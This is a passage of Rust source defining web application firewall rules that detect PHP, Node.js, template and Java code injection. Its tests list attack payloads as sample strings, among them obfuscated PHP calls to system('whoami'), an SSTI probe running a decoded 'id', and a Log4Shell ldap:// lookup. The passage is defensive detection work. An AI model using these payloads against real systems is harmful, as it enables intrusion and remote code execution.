//! Code injection rules: PHP (933xxx), Node.js and SSTI (934xxx), Java (944xxx).
use super::pipelines::*;
use super::targets::*;
use super::{
    Category::Java, Category::Node, Category::Php, Category::Ssti, Check::*, RuleDef, Severity::*,
    rule,
};

/// PHP functions that run a shell command.
macro_rules! php_shell_fns {
    () => {
        "system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec"
    };
}

/// ... and those that run or show code: what a call through an array reaches for.
macro_rules! php_exec_fns {
    () => {
        concat!(php_shell_fns!(), "|assert|eval|phpinfo")
    };
}

/// ... and those that build or read code: what a call through a string reaches for.
macro_rules! php_callables {
    () => {
        concat!(
            php_exec_fns!(),
            "|create_function|call_user_func|file_get_contents|readfile"
        )
    };
}

/// One index of a PHP variable: `[...]` or `{...}`.
macro_rules! php_index {
    () => {
        r"(?:\[[^\]]{0,40}\]|\{[^}]{0,40}\})"
    };
}

/// A class of a package that deserialization gadget chains reach into: the
/// JDK's I/O, RMI, beans, naming, scripting and reflection, and the libraries
/// of the known chains (`java.io.Reader`, `org.omg.CORBA`,
/// `ch.qos.logback.core.db.JNDIConnectionSource`). A package, then a
/// capitalised class name: not a system property (`java.io.tmpdir`), and not
/// the collections, times and exceptions applications type (`java.util.ArrayList`,
/// `java.time.Instant`), nor a logger's name (`org.hibernate.SQL`).
macro_rules! java_gadget_class {
    () => {
        r"(?:(?:java\.(?:io|rmi|beans|net|lang\.(?:reflect|invoke))|javax\.(?:naming|management|script|swing|sql|xml\.transform)|jdk\.nashorn|sun|com\.sun|org\.(?:apache\.(?:xbean|commons\.(?:collections\d*|beanutils|configuration\d*|dbcp\d*|fileupload|io|jxpath)|xalan|tomcat|ibatis|openjpa|aries|cxf|axis2?|log4j|shiro|hadoop|ignite|batik|velocity|wicket|myfaces|naming|catalina|bcel)|springframework\.(?:beans|context|aop|jndi|transaction)|codehaus\.groovy|mozilla\.javascript|python|hibernate\.(?:engine|tuple|jmx|property)|jboss|omg|aspectj|objectweb|slf4j\.ext)|ch\.qos\.logback\.core|com\.(?:mchange|zaxxer\.hikari|alibaba\.fastjson|caucho|rometools)|oracle\.jdbc|br\.com\.anteros|net\.sf\.ehcache|bsh)\.(?:[a-z_]\w*\.)*(?-i:[A-Z])\w*|java\.lang\.(?-i:Runtime|ProcessBuilder|ClassLoader|Thread)\b)"
    };
}

pub(super) fn rules() -> Vec<RuleDef> {
    let t = ATTACK;
    vec![
        // PHP
        rule(
            933100,
            Php,
            1,
            Critical,
            t | XML,
            DEC,
            Regex(r##"<\?(?:php\b|=|\s)"##),
            "PHP open tag",
        ),
        rule(
            933120,
            Php,
            1,
            Critical,
            t,
            DEC,
            Regex(
                r##"\b(?:allow_url_include|allow_url_fopen|auto_prepend_file|auto_append_file|disable_functions|open_basedir|safe_mode|register_globals|suhosin\.\w+)\s*="##,
            ),
            "PHP configuration directive",
        ),
        rule(
            933130,
            Php,
            1,
            Critical,
            t,
            DEC,
            Regex(
                r##"\$_(?:get|post|request|cookie|server|files|env|session)\b|\$\{\s*['"]_(?:get|post|request|cookie|server|files|env|session)['"]\s*\}|\$globals\s*\[|\$http_raw_post_data|\$http_(?:get|post)_vars"##,
            ),
            "PHP superglobal",
        ),
        rule(
            933140,
            Php,
            1,
            Critical,
            t,
            DEC,
            Regex(
                r##"\b(?:php|phar|zip|expect|glob|zlib|compress\.zlib|compress\.bzip2|rar|ogg|ssh2\.\w+)://|\bdata://(?:text|application)/|\bdata:[^,]{0,64};base64,\s*PD(?:9w|89|8g)|\bchr\s*\(\s*\d+\s*\)\s*\.\s*chr\s*\(\s*\d+\s*\)"##,
            ),
            "PHP stream wrapper, a data: URL of PHP code, or a string built of chr() calls",
        ),
        rule(
            933150,
            Php,
            1,
            Critical,
            t,
            DEC,
            Regex(concat!(
                r##"\b(?:phpinfo\s*\(\s*\)|(?:shell_exec|passthru|proc_open|pcntl_exec|popen|create_function|call_user_func(?:_array)?|gzinflate|gzuncompress|str_rot13|file_get_contents|file_put_contents|highlight_file|show_source|move_uploaded_file|assert|base64_decode|system|exec|eval|readfile|fopen|unlink|fsockopen|curl_exec|preg_replace|array_map|usort|ob_start|register_shutdown_function)\s*\(\s*(?:\$\w|['"`][^'"`]*['"`]\s*[),]|(?:base64_decode|gzinflate|str_rot13|chr|strrev|hex2bin)\s*\(|@?\$_))|\bmail\s*\([^)]*['"](?:[^'"]*\s)?(?:(?-i:-[XC])\s*\S|-oqueuedirectory\b)|\bcopy\s*\(\s*['"](?:https?|ftps?)://[^'"]*['"]\s*,\s*['"][^'"]*\.(?:php\d?|phtml|phar)['"]|(?:^|[^\w.>:$])(?:"##,
                php_shell_fns!(),
                r##")\s*\(\s*(?:id|whoami|uname|ls|dir|pwd|hostname|ifconfig|ipconfig|netstat|ps|env|cat|wget|curl|nc|ncat|bash|powershell)\b|\b(?:include|require)(?:_once)?\s*\(?\s*(?:\$_|['"](?:https?|ftps?|php|data|expect|zip|phar)://|['"][^'"]*\.(?:php\d?|phtml|inc)['"])"##
            )),
            "PHP function call with code-injection arguments",
        ),
        rule(
            933151,
            Php,
            2,
            Critical,
            t,
            DEC,
            // A call of a function only PHP names so, whatever its arguments:
            // sockets, processes, decoders, the interpreter's own state
            // (`pfsockopen('x', 25)`, `posix_getegid()`, `curl_init()`). A
            // method (`$c->curl_init()`, `os.posix_spawn(`) is some other code.
            Regex(
                r##"(?:^|[^\w.>:$])(?:posix_(?:get\w+|kill|mkfifo|mknod|set(?:uid|gid|euid|egid|sid|pgid)|uname|ttyname|isatty|access|times|ctermid)|pcntl_\w+|proc_(?:open|close|nice|terminate|get_status)|shell_exec|passthru|p?fsockopen|stream_socket_(?:client|server)|curl_(?:init|exec|multi_exec|setopt(?:_array)?)|gzuncompress|gzinflate|gzdecode|str_rot13|base64_decode|convert_uudecode|hex2bin|create_function|call_user_func(?:_array)?|file_(?:get|put)_contents|phpinfo|php_uname|phpversion|getmypid|getmyuid|getmygid|get_current_user|ini_(?:set|get|get_all|restore)|assert_options|set_time_limit|ignore_user_abort|highlight_file|show_source|move_uploaded_file|escapeshell(?:cmd|arg)|file(?:group|owner|perms|inode)|get_defined_(?:vars|functions|constants)|unserialize|parse_ini_(?:file|string)|var_dump|var_export|print_r|debug_zval_dump|dns_get_record|mb_send_mail|register_shutdown_function|forward_static_call(?:_array)?)\s*(?:/\*[^*]*\*/\s*)*\("##,
            ),
            "PHP function call of a PHP-only function",
        ),
        rule(
            933160,
            Php,
            1,
            Critical,
            t,
            DEC,
            Regex(r##"\b[oc]:\d+:"[\w\\]+":\d+:\{|\ba:\d+:\{\s*(?:[si]:\d+[:;]|[oc]:\d+:")"##),
            "PHP serialized object",
        ),
        rule(
            933170,
            Php,
            1,
            Critical,
            t,
            DEC,
            Regex(concat!(
                r##"\$\{\s*@?\s*[a-z_]+\s*\(|@\s*(?:eval|assert|system|exec)\s*\(|\$\w+\s*\(\s*\$_|preg_replace\s*\(\s*['"]([^\w\s]).*/e['"]"##,
                // A variable called through an index (`$__[o](4)`,
                // `$d['o'] /*x*/ (9)`), a variable variable or a braced name
                // (`$$b(2)`, `${'a'}(11)`, `${@a}(10)`), an underscore name or
                // a silenced one (`$_(3)`, `@$f("x")`), a method or static
                // name held in a variable (`$o->$f()`, `Foo::$v()`), a
                // variable in parentheses (`($y)('id')`). A plain `$t('x')`
                // is how Vue, Angular and jQuery code calls helpers.
                r##"|\$+\s*(?:\{[^}]{1,40}\}|@?[a-z_]\w*)(?:\s*(?:/\*[^*]*\*/\s*)*"##,
                php_index!(),
                // A space before the parentheses when a call's arguments
                // follow (`$a[@d] ()`, `$x[0] (16)`), not words (`$a[$k] (see
                // above)`).
                r##")+(?:(?:\s*/\*[^*]*\*/\s*)*\(|\s+\(\s*(?:\d+|'[^']*'|"[^"]*")?(?:\s*,\s*(?:\d+|'[^']*'|"[^"]*"))*\s*\)\s*(?:;|$))"##,
                r##"|(?:\$\s*\{[^}]{1,40}\}|\$\s*\$+\s*@?[a-z_]\w*)(?:\s*"##,
                php_index!(),
                r##")*(?:\s*/\*[^*]*\*/)*\("##,
                r##"|(?:@\s*\$+\s*[a-z_]\w*|\$_+\b)(?:\s*"##,
                php_index!(),
                r##")*(?:\s*/\*[^*]*\*/)*\("##,
                r##"|(?:->|::)\s*\$[a-z_]\w*\s*\(|\(\s*\$[a-z_]\w*\s*\)\s*\("##,
                // A function named by a string, a parenthesised name or an
                // array element (`"system"(ls)`, `('system')('id')`,
                // `[system][0](ls)`), a string written in hex escapes or
                // concatenated, then called (`"\x73y\x73tem"(ls)`,
                // `"sys"."tem"('id')`).
                r##"|\(\s*(?:/\*[^*]*\*/\s*)*\[?\s*['"]?\s*(?:"##,
                php_callables!(),
                r##")\s*['"]?\s*\]?\s*(?:/\*[^*]*\*/\s*)*\)(?:\s*\[\s*0\s*\]\s*)?\("##,
                r##"|['"]\s*(?:"##,
                php_callables!(),
                r##")\s*['"]\s*\(|\[\s*['"]?(?:"##,
                php_exec_fns!(),
                r##")['"]?\s*\]\s*\[\s*0\s*\]\s*[)}]?\s*\("##,
                r##"|['"](?:[^'"\\]*\\x[0-9a-f]{2}){2,}[^'"]*['"]\s*\(|['"][a-z_]{1,12}['"](?:\s*\.\s*['"][a-z_]{1,12}['"])+\s*\("##,
                // A name built of strings, then called through its variable
                // (`$a = 'sys'.'tem'; $a('id');`).
                r##"|\$[a-z_]\w*\s*=\s*['"][a-z_]{1,12}['"](?:\s*\.\s*['"][a-z_]{1,12}['"])+\s*;\s*\$[a-z_]\w*\s*\("##,
                // Two calls through variables joined by PHP's `.` (`$f(101).$f(120)`,
                // `chr` held in `$f`); an obfuscator's name of O and 0
                // (`$OOO0000O0 (16)`); a shell function with a comment before its
                // parentheses (`exec/*c*/()`).
                r##"|\$[a-z_]\w*\s*\(\s*\d+\s*\)\s*\.\s*\$[a-z_]\w*\s*\(\s*\d|\$(?:o+0|0+o)[o0]{3,}\s*[(\[{]|(?:^|[^\w.>:$])(?:"##,
                php_exec_fns!(),
                r##")\s*(?:/\*[^*]*\*/\s*)+\("##
            )),
            "PHP dynamic call: through a variable, a string or an array element",
        ),
        rule(
            933180,
            Php,
            1,
            Critical,
            t,
            DEC,
            // The value (a word at most) breaks out of a string or statement
            // that PHP evaluates, calls a function a probe calls, and comments
            // out the rest: `';exit(md5('x'));//`, `a;die(phpinfo());#`. A
            // method call without a break-out (`System.exit(0); //`) is code.
            Regex(
                r##"^[\w-]{0,32}(?:['"]\s*[;.]|;)\s*@?(?:exit|die|md5|sha1|phpinfo|system|passthru|shell_exec|exec|eval|assert|sleep|usleep|var_dump|print_r|file_get_contents|readfile)\s*\(.*\)\s*;?\s*(?://|#)"##,
            ),
            "PHP statement injected into evaluated code",
        ),
        rule(
            933190,
            Php,
            1,
            Critical,
            t,
            DEC,
            // Code-injection probes of scanners (Arachni, w3af): a product or
            // sum of two long numbers printed by PHP, Perl, Python or ASP, a
            // string repeated and printed, `str_repeat`, `Response.Write(`.
            Regex(
                r##"(?:^|[;'"\w])\s*;?\s*(?:print|echo|response\s*\.\s*write)\s*\(?\s*\d{4,}\s*[*+]\s*\d{4,}|\bprint\s*\(?\s*['"]\w+['"]\s*(?:\*|x)\s*\d|\bstr_repeat\s*\(\s*['"]|\bresponse\s*\.\s*write\s*\(\s*(?:new\s|\d|['"][^'"]*['"]\s*[+&)])"##,
            ),
            "Code-evaluation probe: long numbers or a repeated string printed",
        ),
        // Node.js
        rule(
            934100,
            Node,
            1,
            Critical,
            t,
            DEC,
            Regex(
                r##"\brequire\s*\(\s*['"`](?:child_process|process)['"`]\s*\)|\.\s*require\s*\(\s*['"`](?:fs|net|http|os|vm|dgram|cluster)['"`]\s*\)|\brequire\s*\(\s*['"`](?:fs|net|http|os|vm|dgram|cluster)['"`]\s*\)\s*[.\[]|\bchild_process\b|\bprocess\s*\.\s*(?:(?:mainmodule|binding|dlopen)\b|kill\s*\()|\bglobal\s*\.\s*process\b|\bconstructor\s*\.\s*constructor\s*\(|\bconstructor\s*\(\s*['"`]return\s|\bnew\s+function\s*\(\s*['"`]|\b(?:execsync|spawnsync|execfilesync)\s*\(|\bfs\s*\.\s*(?:readfile|writefile|readdir|unlink|appendfile)(?:sync)?\s*\(|\bvm\s*\.\s*run(?:in(?:this|new)?context|script)\s*\(|\bmodule\s*\.\s*constructor\s*\.\s*_load|_\$\$nd_func\$\$_|\bxyqktkrfrlvoqyqk|\b(?:process|require)\s*\[\s*(?:['"`]\s*(?:env|mainmodule|binding|dlopen|kill|exit|child_process|fs|os|net)\b|req\s*\.|mainmodule\b)|\bwhile\s*\(+\s*(?:!!\s*)?(?:[+-]\s*)?(?:true|infinity|this|string|new\s+date|[1-9]\d*|\[\s*\]|\{\s*\})\s*\)+\s*(?:;|$)|\bwhile\s*\(+\s*!\s*[+-]?\s*(?:false|0|null|undefined|nan|""|''|``)\s*\)+\s*(?:;|$)|\bprocess\s*\.\s*spawn\s*\(|@\{\s*\[\s*(?:system|exec|qx)\b|\bwhile\s*\(\s*(?:\w+|new\s+date\s*\(\s*\)|date\s*\.\s*now\s*\(\s*\))\s*-\s*\w+\s*<\s*\d{4,}\s*\)"##,
            ),
            "Node.js (or Ruby, Perl) code injection: modules, process, node-serialize's function marker, an endless or busy-wait loop",
        ),
        rule(
            934110,
            Node,
            1,
            Critical,
            t,
            DEC,
            Regex(
                r##"__proto__|\bconstructor\s*(?:\.\s*prototype\b|\[\s*['"`]prototype)|\[\s*['"`]constructor['"`]\s*\]\s*\[\s*['"`]prototype|['"]constructor['"]\s*:\s*\{\s*['"]prototype['"]\s*:|\bconstructor\s*\]?\s*\[\s*prototype\s*\]"##,
            ),
            "Prototype pollution",
        ),
        // SSTI
        rule(
            934130,
            Ssti,
            1,
            Critical,
            t,
            DEC,
            Regex(
                r##"\{\{\s*\d+\s*[*+\-/%]\s*['"]?\d+['"]?\s*\}\}|\{\{\s*-?\d+\s*\|\s*(?:times|plus|minus|divided_by|modulo|add)\s*:\s*-?\d+\s*\}\}|\{\s*[#@]?\s*\d{3,}\s*\*\s*\d{3,}\s*\}|\{\{\s*print\s+["']?\d+["']?\s+["']?\d+|\{@math\s+key\s*=|#\{\s*%x\s*[({\[]|(?:(?:<%|\{\{|\$\{|#\{|\{@|\{#|\{%)=?\s*){4}|\$\{\{?\s*\d+\s*[*+\-/%]\s*\d+\s*\}\}?|<%=?\s*\d+\s*[*+\-/%]\s*\d+\s*%>|[#*@~]\{\s*\d+\s*[*+\-/%]\s*\d+\s*\}|@\(\s*\d+\s*[*+]\s*\d+\s*\)|\{\{=\s*\d+\s*[*+]\s*\d+\s*\}\}|\[\[\s*\d+\s*\*\s*\d+\s*\]\]|\{#\s*\d+\s*\*\s*\d+\s*#\}"##,
            ),
            "SSTI arithmetic probe",
        ),
        rule(
            934140,
            Ssti,
            1,
            Critical,
            t,
            DEC,
            Regex(
                // Python documentation names these attributes; an exploit walks them:
                // a chain continued by a subscript or call, or any of them inside a
                // template expression.
                r##"__(?:class|mro|base|bases|init)__\s*\.\s*__(?:mro|base|bases|subclasses|globals|builtins)__\s*[\[(.]|__subclasses__\s*\(|__(?:globals|builtins)__\s*\[|\[\s*['"]__(?:class|globals|builtins|mro|subclasses|import|init)__['"]\s*\]|\|\s*attr\s*\(|\\x5f\\x5f|\.subclasses\s*\(\s*\)|\.class\s*\.\s*(?:base|mro|forname)\b|\b__import__\s*\(\s*['"]|\{[{%][^}]*__(?:class|mro|globals|builtins|init|base|subclasses|dict|getattribute)__|\$\{[^}]*__(?:class|globals|init|builtins)__"##,
            ),
            "SSTI Python object traversal",
        ),
        rule(
            934150,
            Ssti,
            1,
            Critical,
            t,
            DEC,
            Regex(
                r##"\{\{\s*(?:config|self)\s*(?:\}\}|\.(?:items|__|_templatereference|_module|from_|get|update)|\[|\|)|\{\{\s*(?:lipsum|cycler|joiner|namespace|url_for|get_flashed_messages)\b|\{[{%][^}]*\bconfig\s*\.\s*(?:items|iteritems|values|keys)\s*\(|\brequest\s*\.\s*(?:application|__)|\{\{\s*(?:dump|app)\s*\(|\{%\s*(?:debug|import|php|include\s+['"]/)|\{\{\s*(?:request|app|session|settings|_self)\s*\}\}|\{\{\s*app\s*\.\s*request\b|\{\{\s*['"][^'"]*['"]\s*\.\s*\w+\s*\(|\{\{[^}]*['"](?:system|exec|passthru|shell_exec|popen|proc_open)['"]"##,
            ),
            "SSTI template object access",
        ),
        rule(
            934160,
            Ssti,
            1,
            Critical,
            t,
            DEC,
            Regex(
                r##"<#assign\b|<#(?:import|include|setting|global)\b|\?new\s*\(|freemarker\.template\.utility|\bexecute\s*\?\s*new|#set\s*\(\s*\$\w+\s*=|\$class\s*\.\s*(?:inspect|forname|type)|\.getclass\s*\(\s*\)\s*\.\s*(?:forname|getmethod|getclassloader)|\{php\}|\{system\s*\(|\{\$smarty\s*\.|\{self::getstreamvariable|_self\s*\.\s*env|registerundefinedfiltercallback|\|\s*(?:filter|map|reduce|sort)\s*\(\s*['"](?:system|exec|passthru|shell_exec|popen)|<%=?\s*\(?\s*(?:system|exec|eval|`|%x|io\.popen|file\.(?:open|read)|dir\.entries|require|kernel\.)|['"]\s*\.\s*execute\s*\(\s*\)|\b\w+\s*\.\s*execute\s*\(\s*\)\s*\.\s*text\b|\bsystem\.diagnostics\.process\s*\.\s*start\s*\(|~\s*(?:passthru|system|exec|shell_exec)\s*~|\.findvalue\s*\(\s*#|__\$\{.*?\}__|[*$#@]\{\s*t\s*\(\s*(?:java|javax|jdk|sun|com|org|net|io|groovy|ognl)\s*\.\s*[\w$.]+\s*\)|[$#]\{[^}]*\bclass\s*\.\s*(?:getclassloader|classloader|forname|getresource|newinstance|getmethods?|getdeclared\w+)\b|\{\{[^}]*\|\s*(?:system|exec|passthru|shell_exec|popen|proc_open|eval|assert)\s*(?:\}\}|\|)|#\{\s*(?:global|process|require)\b|\{\{#with\s+['"]\w*['"]\s+as\s*\||\$\{\s*(?:self|module)\s*\.|\{\{\s*['"][^'"]*['"]\s*\.\s*(?:constructor|__class__)|\{\{[^}]*\.constructor\s*\.\s*constructor|\{\{[^}]*\$(?:on|eval|emit|parent)\b|\$\{\{<%|<%\[%|\{\{<%|\.request\.server\.all\b|\$\{[^}]*\.getclass\s*\("##,
            ),
            "SSTI engine-specific payload",
        ),
        rule(
            934170,
            Ssti,
            1,
            Critical,
            t,
            DEC,
            // A template expression or tag that reads the request itself
            // (`{{request.GET.x|safe}}`, `{% include request.GET.t %}`,
            // `@{{request('x')}}`) or echoes a variable unescaped (`{!!$x!!}`):
            // input that renders other input, which only template injection sends.
            Regex(
                r##"(?:\{\{|\{%|\{!!|@\w+\s*\()[^}]{0,200}?\brequest\s*(?:\.\s*(?:get|post|args|form|values|params|query|querystring|cookies|headers|body|data|json|files)\b|\(\s*['"])|\{!!\s*\$\w+\s*!!\}"##,
            ),
            "SSTI: template reads the request",
        ),
        rule(
            934180,
            Ssti,
            1,
            Critical,
            t,
            DEC,
            // What template-injection tools (tplmap, SSTImap) send to tell one
            // engine or language from another, which no template or program
            // written for people does: a number alone in a template tag followed
            // by another tag (`{{851}}{{…`); `typeof` of a number literal; Ruby's
            // `require'base64'` and a `%x()` inside `#{}`; `getattr("", …)`; a
            // string literal joined by a string literal (`'PDY'.join('HlTL')`);
            // arithmetic turned to a string (`(6550+659).to_s`); `RUBY_PLATFORM`,
            // `PHP_OS` echoed; Tornado's `{% raw expr %}` (Jinja's `{% raw %}`
            // takes none); Smarty's `{/if}{if 1}` and `{*123*}`; FreeMarker's
            // `<#list` and `${123?c}`; a function built by a constructor from a
            // string and called (`range.constructor("…")()`).
            Regex(
                r##"\{\{=?\s*\d{3,}\s*\}\}[^{}]{0,40}\{\{|\btypeof\s*\(\s*\d+\s*\)|\brequire'[\w/]+'|#\{[^}]{0,100}%x\s*[({\[]|\bgetattr\s*\(\s*(?:""|'')\s*,|['"][^'"\s]{1,10}['"]\s*\.\s*join\s*\(\s*['"][^'"\s]{1,10}['"]\s*\)|\(\s*\d+\s*[-+*]\s*\d+\s*\)\s*\.\s*to_s\b|\bruby_platform\b|\becho\s+php_(?:os|version|uname)\b|\{%\s*raw\s+[^%\s]|\{\s*/if\s*\}\s*\{\s*if\b|\{\*\s*\d+\s*\*\}|<#list\s|</#list>|\$\{\s*\d+\s*\?\s*c\s*\}|\b\w+\s*\.\s*constructor\s*\(\s*["'][^"']*["']\s*\)\s*\(|\{%\s*set\s+\w+\s*=\s*\d+\s*[-+*]\s*\d+\s*%\}|\|\s*map\s*\(\s*["'](?:call_user_func|system|exec|passthru|shell_exec|popen)["']|\bstrval\s*\(\s*\d+\s*[-+*]\s*\d+\s*\)|\{\{\s*\(\s*\d+\s*,\s*\d+\s*\*\s*\d+\s*\)|\{!\s*\d+\s*!\}|\{@if\s+cond\s*=|<#--\s*\d+\s*-->|\|\s*filter\s*\(\s*\w+\s*=>"##,
            ),
            "SSTI or code-evaluation probe of a template-injection tool",
        ),
        // Java
        rule(
            944100,
            Java,
            1,
            Critical,
            t,
            DEC,
            Regex(
                r##"java\.lang\.(?:runtime|processbuilder|system\b|class\b|reflect|thread|classloader)|\bruntime\s*\.\s*getruntime\s*\(|\bprocessbuilder\s*\(|\bgetclass\s*\(\s*\)\s*\.\s*forname|\bclass\s*\.\s*forname\s*\(|\.getmethod\s*\(\s*['"]|\.getdeclaredmethod\s*\(|javax\.script\.scriptenginemanager|java\.io\.(?:file|bufferedreader|inputstreamreader|fileinputstream|fileoutputstream)\b|java\.net\.(?:url|socket|urlclassloader)\b|\bnew\s+java\.|\bt\s*\(\s*java\.|\.newinstance\s*\(\s*\)\s*\.\s*(?:eval|exec)"##,
            ),
            "Java code injection",
        ),
        rule(
            944110,
            Java,
            1,
            Critical,
            ATTACK | PATH,
            DEC,
            Regex(
                r##"\$\\?\{[^}]*\$\\?\{|\$\\?\{\s*(?:jndi|ctx|env|sys|java|main|bundle|docker|k8s|lower|upper|date|base64|log4j|spring|web|marker|map|sd|event|::-)\s*:|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:"##,
            ),
            "Log4Shell JNDI lookup",
        ),
        rule(
            944120,
            Java,
            1,
            Critical,
            t,
            DEC,
            Regex(
                r##"%\{[^}]*(?:#_memberaccess|#context|@java\.|#cmd|ognlcontext|#attr|#request|#parameters|\.getruntime|new\s+java)|#_memberaccess|@ognl\.ognlcontext|xwork\.methodaccessor|com\.opensymphony\.xwork2|\$\{\s*#(?:context|_memberaccess|request|session|application|parameters|attr)\b|\bclass\.module\.classloader\b|\bclass\.classloader\.|\bclassloader\.resources\.context"##,
            ),
            "OGNL or Spring class-loader manipulation",
        ),
        rule(
            944130,
            Java,
            1,
            Critical,
            t,
            DEC,
            Regex(concat!(
                // Jackson's typing: a gadget class as `@class` or as the first
                // element of a `[class, {properties}]` pair.
                r#"['"]@class['"]\s*:\s*['"]"#,
                java_gadget_class!(),
                r#"|\[\s*['"]"#,
                java_gadget_class!(),
                r#"['"]\s*,\s*[\[{]|"#,
                r##"\bro0ab[a-z0-9+/]|\baced0005[0-9a-f]|org\.apache\.commons\.collections\d*\.functors|com\.sun\.org\.apache\.xalan|org\.springframework\.beans\.factory\.config|org\.springframework\.context\.support\.(?:classpath|filesystem)xmlapplicationcontext|java\.beans\.xmldecoder|\bysoserial\b|com\.sun\.rowset\.jdbcrowsetimpl|['"]@type['"]\s*:\s*['"](?:com|org|java|javax)\.|org\.codehaus\.groovy\.runtime|bsh\.interpreter|com\.mchange\.v2\.c3p0|\b(?:invoker|chained|constant|instantiate|clone)transformer\b|\b(?:instantiate|prototypeclone|prototypeserialization)factory\b|\b(?:for|while)closure\b"##,
            )),
            "Java deserialization gadget: a serialized stream's header, or a gadget chain's class",
        ),
        rule(
            944140,
            Java,
            2,
            Critical,
            t,
            DEC,
            // A key or a value that is a class of a package gadget chains
            // reach into: Jackson builds the class a key names in its
            // wrapper-object typing (`{"java.io.Reader": …}`), and the class
            // an `@class` value or an array's first element names in a
            // parsed body (`["ch.qos.logback.core.db.JNDIConnectionSource", {…}]`).
            Regex(concat!(r"^\s*", java_gadget_class!(), r"\s*$")),
            "Java gadget class named alone: a key, or a value of Jackson's typing",
        ),
        rule(
            944145,
            Java,
            2,
            Critical,
            t,
            DEC,
            // ... and such a key in JSON a value carries (`q={"java.io.Reader":
            // "x"}`; Jackson builds a `java.io.File` or a `java.net.URL` from
            // a string).
            Regex(concat!(
                r#"[{,]\s*["']"#,
                java_gadget_class!(),
                r#"["']\s*:"#
            )),
            "Java class named by a key of JSON in a value",
        ),
        rule(
            944150,
            Java,
            1,
            Critical,
            t,
            DEC,
            Regex(
                r##"\$\{\s*(?:pagecontext|applicationscope|sessionscope|requestscope|facescontext|initparam)\b|#\{\s*(?:facescontext|request\.getclass|session\.getclass)|\$\{\s*(?:request|session)\s*\.\s*getclass"##,
            ),
            "Java expression language injection",
        ),
    ]
}

#[cfg(test)]
mod tests {
    use crate::waf::rules::fires;

    #[test]
    fn template_injection_tools_probes_fire_but_templates_and_code_do_not() {
        for a in [
            "1\"\"\"]):}}{{851}}{{(3703,9612*2071)}}{{174493}}",
            "1)%><%- '909'+typeof(557)+668+'69323' %><%#",
            "'12103'+\"#{(require'base64';%x(#{Base64.urlsafe_decode64('aWQ=')})).to_s}\"+'884'",
            "1\":1})+getattr(\"\", str(580995+955))",
            "str('PDY'.join('HlTL'))",
            "(6550+659).to_s+(RUBY_PLATFORM).to_s",
            "1\"]];print_r('9939');echo PHP_OS;//",
            "{% raw '0nV'.join('uI6sp') %}",
            "1]]}{/if}{if 1}{222}{3132}{*226877*}",
            "true}) as a></#list><#list [1] as a>${24792?c}",
            "{{range.constructor(\"return 1\")()}}",
            "1 %}{%set h=93140+953050%}{%set a=1%}",
            "{%set p={\"aWQ=\":\"base64_decode\"}|map(\"call_user_func\")|join%}",
            "call_user_func(join(\"\",[strval(7076+815)]));//",
            "{{(3703,9612*2071)}}",
            "563881{!123!}248585jcY{!qwe!}",
            "VqY03{@if cond=\"1\"}jgKEY{/if}bzQyb",
            "${437}<#--559493-->${262}",
            "{{(1..3)|filter(x => x < 3)|join(\"\")}}",
        ] {
            assert!(fires(934180, a), "missed {a}");
        }
        for b in [
            "{{ count }} items, {{ total }}",
            "{{2024}} was a year",
            "typeof x === 'number'",
            "const fs = require('fs');",
            "', '.join(names)",
            "x.to_s + y.to_s",
            "{% raw %}{{ not rendered }}{% endraw %}",
            "{if $x}{/if}",
            "new Foo().constructor(a)",
            "{% set total = price %}",
            "{{ items|filter(x) }}",
            "<#-- a comment -->",
        ] {
            assert!(!fires(934180, b), "flagged {b}");
        }
    }

    #[test]
    fn scanners_code_evaluation_probes_fire_but_arithmetic_prose_does_not() {
        for a in [
            "1';print 287630581954+4196403186331128;#",
            ";echo 287630581954+4196403186331128;",
            "Widget;Response.Write(287630581954+4196403186331128)",
            "Response.Write(new String(\"orhqh\",5))",
            "print 'orhqh'x5",
            "print('orhqh'*5)",
            "echo str_repeat('orhqh',5);",
        ] {
            assert!(fires(933190, a), "missed {a}");
        }
        for b in [
            "print 2 copies",
            "echo 1234 + 5 is easy",
            "Response.Write is a method",
            "print('hello')",
        ] {
            assert!(!fires(933190, b), "flagged {b}");
        }
    }

    #[test]
    fn a_php_string_built_of_chr_calls_fires() {
        assert!(fires(933140, ";print(chr(122).chr(97).chr(112).chr(95));"));
        assert!(!fires(933140, "chr(65) . \" and \" . ord('A')"));
    }

    #[test]
    fn log4j_lookups_fire_with_their_braces_escaped() {
        assert!(fires(944110, "${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"));
        assert!(fires(
            944110,
            "$\\{$\\{::-j\\}$\\{::-n\\}$\\{::-d\\}$\\{::-i\\}:x"
        ));
        assert!(!fires(944110, "costs ${price} and {total}"));
    }

    #[test]
    fn php_calls_through_variables_strings_and_arrays_fire_but_framework_helpers_do_not() {
        for a in [
            "$__[o](4)",
            "$d['o'](9)",
            "$_aB_4c[5]['d'] /*lol*/ (17)",
            "$OOO000000{0}(15)",
            "$$b(2)",
            "${'a'}(11)",
            "${@a}(10)",
            "$ {@_.__}(31);",
            "$_(3)",
            "@$b374k(\"foo\")",
            "$foo->$funcname()",
            "Foo::$variable()",
            "$y = 'sys'.'tem';($y)('uname');",
            "(system)(whoami)",
            "('system')('whoami')",
            "(/* comment */system)(ls/* comment */);",
            "(['system'])[0]('uname');",
            "[ system ] [ 0 ] ( ls );",
            "\"system\"(ls);",
            "\"\\x73y\\x73tem\"(ls);",
            "( string ) \"sys\".\"t\".\"em\" ('uname');",
            "$_aB_4c[@5]/*wat*/[@d] ()",
            "$x[0] (16)",
            "(string) {[system][0]} ('uname');",
            "$f(101).$f(120)",
            "$OOO0000O0 (16)",
            "$a = 'sys'.'tem'; $a('id');",
            "exec/*comment*/()",
            "exec /*comment*/ ()",
        ] {
            assert!(fires(933170, a), "missed {a:?}");
        }
        for b in [
            "{{ $t('message.hello') }}",
            "@click=\"$emit('close')\"",
            "$timeout(fn, 100)",
            "$j('#menu').hide()",
            "$('#id')",
            "costs $5 (about 4 euros)",
            "set $JAVA_HOME (see below)",
            "`${count} (${unit})`",
            "(0, _foo.default)(x)",
            "the (system) (default) setting",
            "$items[$key] is an array element",
            "$items[$key] (see above) is an array element",
            "The first element, $arr[0] (1 of 3), is used",
            "$row['name'] ('John') is printed",
            "$firebaseArray(ref).$loaded().then(cb)",
            "$prices[0] (10 USD) and $prices[1] (20 USD)",
            "$(this).$el(x)",
            "$('#a').text($b('c'))",
            "the exec (see below) call",
            "exec(/*no*/ x)",
        ] {
            assert!(!fires(933170, b), "flagged {b:?}");
        }
    }

    #[test]
